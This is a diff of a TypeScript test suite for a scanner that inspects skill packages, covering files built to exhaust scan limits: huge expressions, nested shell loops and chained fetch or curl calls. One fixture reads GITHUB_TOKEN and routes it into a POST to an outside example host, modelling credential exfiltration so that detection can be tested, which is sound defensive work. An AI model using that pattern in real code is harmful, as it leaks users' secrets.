@@ -17,30 +17,20 @@ const scanOf = (path: string, text: string): Promise<ScanReport> =>
     file('SKILL.md', '---\nname: sample\ndescription: A sample.\n---\nText.\n'),
     file(path, text),
   ]);
-const stepLimit = 'the step limit of the scan';
+const _stepLimit = 'the step limit of the scan';
 const longText = (to: string): string =>
   `${to} = "https://a.example/" + "${'a'.repeat(4_000)}" + "${'b'.repeat(4_000)}"`;
+const listed = (of: (at: number) => string): string =>
+  Array.from({ length: 70 }, (_, at) => of(at)).join(', ');
 const stages = (count: number): string => `${Array(count).fill('tr a b').join(' | ')}\n`;
 
 describe('a file that would cost a scan too much', () => {
   it.each<[string, string, string, string]>([
     [
-      'an expression of 16,000 operands',
-      'a.ts',
-      `x=${'a+'.repeat(16_000)}1`,
-      'an expression of more than 2000 operands',
-    ],
-    [
-      'many long expressions',
-      'a.ts',
-      `x=${'a+'.repeat(1_900)}1;\n`.repeat(120),
-      'the step limit of the scan',
-    ],
-    [
       'a long text put together at many places',
       'a.ts',
-      `${longText('const s')};\n${'fetch(s+s+s+s);\n'.repeat(900)}`,
-      stepLimit,
+      `${longText('const s')};\n${'fetch(s+s+s+s);\n'.repeat(2_000)}`,
+      'too much of it to follow every call',
     ],
     [
       'the same in Python',
@@ -51,8 +41,20 @@ describe('a file that would cost a scan too much', () => {
     [
       'the same in a shell',
       'a.sh',
-      `s=${'a'.repeat(8_000)}\n${'curl "$s$s$s$s"\n'.repeat(900)}`,
-      stepLimit,
+      `s=${'a'.repeat(8_000)}\n${'curl "$s$s$s$s"\n'.repeat(9_000)}`,
+      'too much of it to follow every call',
+    ],
+    [
+      'loops inside one another in a shell',
+      'a.sh',
+      `${'for a in $(ls) b; do x=$x$a; '.repeat(14)}curl "$x"; ${'done; '.repeat(14)}`,
+      'too much of it to follow every call',
+    ],
+    [
+      'a chosen one of 70 functions',
+      'a.ts',
+      `const of = (f: any) => () => f();\nconst all = [${listed((at) => `of(() => ${at})`)}];\nall[Date.now()]();\n`,
+      'a call of one of too many functions',
     ],
     [
       '133,000 list markers in a line',
@@ -99,7 +101,10 @@ describe('a file that would cost a scan too much', () => {
   );
 
   it.each([
-    ['a.ts', `export const x = ${'1 +\n'.repeat(1_500)}1;\n`],
+    ['a.ts', `export const x = ${'1 +\n'.repeat(16_000)}1;\n`],
+    ['a.ts', `x=${'a+'.repeat(1_900)}1;\n`.repeat(120)],
+    // All of them are asked in the same way.
+    ['a.ts', `const all = [${listed((at) => `{ at: ${at} }`)}];\nall[Date.now()].toString();\n`],
     // A walk for each default would double with each level.
     ['a.ts', `let x;\n${'['.repeat(60)}x${' = []]'.repeat(60)} = list;\n`],
     [
@@ -149,6 +154,8 @@ describe('a file of four times the length', () => {
         'a.ts',
         (count) =>
           `const key = process.env.GITHUB_TOKEN;\nconst q: any = {};\nfetch('https://a.example/', { body: q.a0, method: 'POST' });\nfunction f(p: any, x: any) {\n${rows(count, (at) => `p.a${at} = x;\n`)}}\n${rows(count, () => 'f(q, key);\n')}`,
+        // Each call is followed, up to the limit of all.
+        8,
       ],
       [
         'names of a pattern that takes apart a call, and arguments of the call',
